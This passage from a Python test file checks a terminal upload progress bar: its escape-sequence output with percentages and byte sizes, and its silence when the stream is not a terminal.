    size = render.human_bytes(len(body))
    assert screen.getvalue().endswith(f"\r\x1b[Kuploading   8% 8.0 KiB / {size}\r\x1b[Kuploading 100% {size} / {size}")


def test_progress_stays_silent_when_stderr_is_not_a_terminal():
    screen = io.StringIO()
    render.Progress("uploading", stream=screen).update(5, 10)
    assert screen.getvalue() == ""
